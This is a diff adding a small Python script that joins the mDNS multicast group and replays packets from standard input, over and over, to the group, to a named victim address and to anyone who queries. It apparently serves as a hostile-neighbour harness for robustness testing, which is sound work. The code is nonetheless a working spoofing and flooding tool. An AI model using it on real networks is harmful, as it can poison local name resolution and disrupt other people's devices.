@@ -1,0 +1,38 @@
+"""A hostile neighbour: plays packets to everybody who listens to mDNS, over and over.
+
+usage: replay.py OWN_ADDRESS VICTIM_ADDRESS; standard input has a packet a line, in hexadecimal.
+They go to the group, to the victim's port of mDNS, and to whoever asks the group anything. It goes
+on until it is killed.
+"""
+
+import socket
+import sys
+
+GROUP, PORT = "224.0.0.251", 5353
+
+own, victim = sys.argv[1:]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("", PORT))
+membership = socket.inet_aton(GROUP) + socket.inet_aton(own)
+s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
+s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
+s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
+s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
+# Between two rounds, where nobody asks: the rest of the network is to be heard, too.
+s.settimeout(0.06)
+packets = [bytes.fromhex(line) for line in sys.stdin]
+print("replaying", len(packets), flush=True)
+while True:
+    places = [(GROUP, PORT), (victim, PORT)]
+    try:
+        _, asker = s.recvfrom(65535)
+        places.append(asker)
+    except OSError:
+        pass  # Nobody has asked, or one who asked is gone.
+    for place in places:
+        for packet in packets:
+            try:
+                s.sendto(packet, place)
+            except OSError:
+                pass  # The kernel's buffer is full, or nobody listens there any more.
